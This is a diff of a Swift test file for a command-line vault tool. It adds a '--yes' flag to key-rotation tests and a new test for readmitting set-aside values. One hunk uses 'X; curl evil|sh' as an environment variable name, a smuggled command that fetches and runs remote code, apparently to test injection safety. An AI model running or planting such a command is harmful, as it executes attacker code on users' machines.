@@ -197,7 +197,7 @@ struct AdviceTests {
 
   @Test func whereTheKeyIsAfterARotationIsSaid() throws {
     let tool = try Tool()
-    let rotated = try tool.run("rotate", "--root", "--new-key-file", "new.key")
+    let rotated = try tool.run("rotate", "--root", "--yes", "--new-key-file", "new.key")
     #expect(rotated.code == 0)
     #expect(rotated.errors.contains("the key is in \(tool.path("new.key")) now"))
     #expect(rotated.errors.contains("\(tool.keyFile) opens this vault no more"))
@@ -205,19 +205,20 @@ struct AdviceTests {
     #expect(rotated.errors.contains("it and \(tool.keyFile).made can be removed"))
     #expect(!rotated.errors.contains("remove it"))
     let again = try tool.run(
-      "rotate", "--root", "--key-file", "new.key", "--new-key-file", "newer.key", "--json")
+      "rotate", "--root", "--yes", "--key-file", "new.key", "--new-key-file", "newer.key", "--json")
     #expect(try again.json()["keyFile"] as? String == tool.path("newer.key"))
     #expect(try again.json()["oldKeyFile"] as? String == tool.path("new.key"))
     for name in ["new.key", "newer.key"] {
       #expect(FileManager.default.fileExists(atPath: tool.path(name)))
     }
     let same = try tool.run(
-      "rotate", "--root", "--key-file", "newer.key", "--new-key-file", "./newer.key")
+      "rotate", "--root", "--yes", "--key-file", "newer.key", "--new-key-file", "./newer.key")
     // Else a key that leaked would still open it, whatever its file is called.
     #expect(same.code == 64 && same.errors.contains("opens the vault already"))
     try tool.write("correct horse", to: "pass")
     let passphrase = try tool.run(
-      "rotate", "--root", "--key-file", "newer.key", "--new-passphrase-file", "pass", "--json")
+      "rotate", "--root", "--yes", "--key-file", "newer.key", "--new-passphrase-file", "pass",
+      "--json")
     #expect(try passphrase.json()["keyFile"] == nil)
     #expect(try passphrase.json()["oldKeyFile"] as? String == tool.path("newer.key"))
     let data = try tool.run("rotate", "--passphrase-file", "pass")
@@ -244,14 +245,15 @@ struct AdviceTests {
     let added = try tool.run(["slots", "add", "--new-key-env", "TYPED"] + own)
     #expect(added.errors.contains("what environment TYPED holds \(words)"))
     try tool.write("hello-there\n", to: "typed.key")
-    let rotated = try tool.run(["rotate", "--root", "--new-key-file", "typed.key"] + own)
+    let rotated = try tool.run(["rotate", "--root", "--yes", "--new-key-file", "typed.key"] + own)
     #expect(rotated.errors.contains("what file typed.key holds \(words)"))
     try tool.write("hello-hello", to: "pass")
     let passphrase = try tool.run("init", "--vault", "c.vault", "--passphrase-file", "pass")
     #expect(passphrase.code == 0)
     #expect(!passphrase.errors.contains(words))
     let changed = try tool.run(
-      "slots", "change", "--vault", "c.vault", "--passphrase-file", "pass", "--new-key-file",
+      "slots", "change", "--yes", "--vault", "c.vault", "--passphrase-file", "pass",
+      "--new-key-file",
       "typed.key")
     #expect(changed.errors.contains("what file typed.key holds \(words)"))
   }
@@ -265,7 +267,7 @@ struct AdviceTests {
     #expect(try tool.run(["init"] + other + [tool.keyFile]).code == 0)
     // The name is that of a slot, but the key is another one: the credential opens the vault.
     #expect(try tool.run("slots", "add", "--new-key-file", "elsewhere/master.key").code == 0)
-    let arguments = ["rotate", "--root", "--new-key-file", "new.key"]
+    let arguments = ["rotate", "--root", "--yes", "--new-key-file", "new.key"]
     let rotated = try tool.run(arguments)
     #expect(rotated.code == 0, "\(rotated.errors)")
     #expect(!rotated.errors.contains(tool.keyFile), "\(rotated.errors)")
@@ -275,15 +277,41 @@ struct AdviceTests {
   @Test func whatARotationLeavesBehindIsSaidToBeUnderTheOldDataKey() throws {
     let tool = try Tool()
     #expect(try tool.run("set", "A", "--authentication-tag", "t", input: "x").code == 0)
-    let rotated = try tool.run("rotate", "--root", "--new-key-file", "new.key")
+    let rotated = try tool.run(
+      "rotate", "--root", "--yes", "--keep-old-keys", "--new-key-file", "new.key")
     #expect(rotated.code == 2)
-    #expect(rotated.errors.contains("1 value can't be opened and stays under the old data key"))
+    #expect(rotated.errors.contains("1 value can't be opened or is not accounted for, and stays"))
     #expect(rotated.errors.contains("which the vault's new key opens as well"))
     let read = try tool.run("get", "A", "--authentication-tag", "t", "--key-file", "new.key")
     #expect(read.text == "x")
-    let again = try tool.run("rotate", "--key-file", "new.key")
+    let again = try tool.run("rotate", "--key-file", "new.key", "--json")
     #expect(again.code == 2)
+    #expect(try again.json()["remaining"] as? Int == 1)
     #expect(again.errors.contains("which the vault's key opens as well"))
+  }
+
+  @Test func whatARotationSetsAsideIsSaidAndTakenBack() throws {
+    let tool = try Tool()
+    let tag = ["--authentication-tag", "t", "--key-file", "new.key"]
+    #expect(try tool.run("set", "A", "--authentication-tag", "t", input: "x").code == 0)
+    #expect(try tool.run("set", "B", input: "y").code == 0)
+    let rotated = try tool.run("rotate", "--root", "--yes", "--new-key-file", "new.key")
+    #expect(rotated.code == 2)
+    #expect(rotated.errors.contains("1 value can't be read: set aside"))
+    #expect(rotated.errors.contains("rotate --resume --readmit"))
+    #expect(try tool.run(["get", "A"] + tag).code == 12)
+    let resumed = try tool.run("rotate", "--resume", "--key-file", "new.key", "--json")
+    #expect(resumed.code == 2)
+    #expect(try resumed.json()["setAside"] as? Int == 1)
+    #expect(try resumed.json()["setAsideNames"] as? [String] == [])
+    let back = try tool.run(["rotate", "--resume", "--readmit", "--json"] + tag)
+    #expect(back.code == 0, "\(back.errors)")
+    #expect(try back.json()["setAside"] as? Int == 0)
+    #expect(try tool.run(["get", "A"] + tag).text == "x")
+    #expect(try tool.run("get", "B", "--key-file", "new.key").text == "y")
+    for arguments in [["--readmit"], ["--root", "--same-key", "--readmit"], ["--keep-old-keys"]] {
+      #expect(try tool.run(["rotate"] + arguments).code == 64)
+    }
   }
 
   /// How many pages are left of the file; nil for all of it, with a header that can't be read.
@@ -324,7 +352,7 @@ struct AdviceTests {
     let variable = "X; curl evil|sh"
     tool.environment[variable] = Data(repeating: 7, count: 32).base64EncodedString()
     tool.environment["CREDENTIALS_DIRECTORY"] = tool.folder.path
-    try tool.write("hello", to: "-c")
+    try tool.write("hello there", to: "-c")
     let vault = ["--vault", "a.vault"]
     let key = vault + ["--key-env", variable]
     #expect(try tool.run(["init"] + key).code == 0)
